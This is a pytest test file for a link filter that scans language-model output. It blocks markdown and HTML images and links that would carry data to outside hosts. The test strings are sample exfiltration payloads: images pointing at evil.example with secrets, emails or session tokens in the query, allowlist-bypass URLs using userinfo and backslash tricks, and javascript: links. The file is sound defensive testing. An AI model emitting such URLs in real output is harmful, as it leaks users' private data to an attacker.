import pytest

from garrison.llm import LinkGuard, Verdict, find_urls, host_allowed
from garrison.llm.rules import (
    IMAGE_EXFILTRATION,
    LINK_EXFILTRATION,
    SCRIPT_URL,
    URL_NOT_ALLOWED,
)

ALLOWED = LinkGuard(["example.com"])
OPEN = LinkGuard()


def rules(guard: LinkGuard, text: str) -> list[str]:
    return [f.rule for f in guard.scan(text).findings]


def test_host_matching_includes_subdomains_only() -> None:
    assert host_allowed("example.com", ["example.com"])
    assert host_allowed("Docs.Example.COM.", ["example.com"])
    assert not host_allowed("example.com.evil.test", ["example.com"])
    assert not host_allowed("badexample.com", ["example.com"])


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p?q=SECRET)",
        "![chart][1]\n\n[1]: https://evil.example/log?d=jane%40example.org",
        '<img src="https://evil.example/a.png?session=abc123">',
        "<IMG SRC=https://evil.example/x?y=1>",
        "![x](//evil.example/p?q=1)",
    ],
)
def test_exfiltrating_images_block_without_an_allowlist(text: str) -> None:
    outcome = OPEN.scan(text)
    assert outcome.verdict is Verdict.BLOCK
    assert IMAGE_EXFILTRATION.id in rules(OPEN, text)


def test_any_outside_image_blocks_with_an_allowlist() -> None:
    assert rules(ALLOWED, "![logo](https://cdn.evil.example/logo.png)") == [IMAGE_EXFILTRATION.id]


def test_allowlisted_images_and_links_pass() -> None:
    text = (
        "![x](https://img.example.com/p?q=1) and [docs](https://example.com/a?b=" + "c" * 40 + ")"
    )
    outcome = ALLOWED.scan(text)
    assert outcome.verdict is Verdict.ALLOW and outcome.text == text


def test_links_carrying_data_block() -> None:
    text = "[click](https://evil.example/c?data=" + "A" * 40 + ")"
    assert rules(OPEN, text) == [LINK_EXFILTRATION.id]
    assert OPEN.scan("[x](https://evil.example/?u=<EMAIL_1>)").blocked


def test_userinfo_and_backslash_tricks_do_not_fool_the_allowlist() -> None:
    assert ALLOWED.scan("![a](https://example.com@evil.example/x.png)").blocked
    assert ALLOWED.scan("![a](https://evil.example\\@example.com/x.png)").blocked


def test_urls_outside_the_allowlist_are_removed() -> None:
    outcome = ALLOWED.scan("See https://other.test/page and https://example.com/help.")
    assert outcome.verdict is Verdict.REDACT
    assert outcome.text == "See [link removed] and https://example.com/help."
    assert [f.rule for f in outcome.findings] == [URL_NOT_ALLOWED.id]


def test_plain_links_pass_without_an_allowlist() -> None:
    text = "Read [the guide](https://python.org/docs) or https://pypi.org/project/httpx/."
    assert OPEN.scan(text).verdict is Verdict.ALLOW


def test_script_urls_block() -> None:
    assert rules(OPEN, "[win](javascript:alert(1))") == [SCRIPT_URL.id]
    assert OPEN.scan('<a href="javascript:steal()">x</a>').blocked


def test_relative_data_and_mailto_urls_pass() -> None:
    text = "[home](/index) ![dot](data:image/png;base64,iVBORw0KGgo=) [m](mailto:a@b.org)"
    assert ALLOWED.scan(text).verdict is Verdict.ALLOW


def test_find_urls_sees_every_form_once() -> None:
    text = (
        "![a](https://a.test/1) [b](https://b.test/2) <iframe src='https://c.test/3'>"
        " https://d.test/4.\n[r]: https://e.test/5"
    )
    urls = find_urls(text)
    assert [u.url for u in urls] == [
        "https://a.test/1",
        "https://b.test/2",
        "https://c.test/3",
        "https://d.test/4",
        "https://e.test/5",
    ]
    assert [u.image for u in urls] == [True, False, True, False, False]


@pytest.mark.parametrize(
    "text",
    [
        "https://www.google.com/search?q=python+asyncio+tutorial",
        "https://docs.python.org/3/library/re.html#regular-expression-syntax-and-more-words",
        "https://blog.example.org/2021/03/15/a-very-long-article-slug-about-machine-learning/",
    ],
)
def test_ordinary_links_are_not_exfiltration(text: str) -> None:
    assert OPEN.scan(text).verdict is Verdict.ALLOW


@pytest.mark.parametrize(
    "text",
    [
        "![" + "a" * 5000 + "](https://evil.example/p?q=1)",
        "![multi\nline alt](https://evil.example/p?q=1)",
        '<img alt="' + "b" * 5000 + '" src="https://evil.example/p?q=1">',
    ],
)
def test_long_labels_and_attributes_do_not_hide_an_image(text: str) -> None:
    assert OPEN.scan(text).blocked
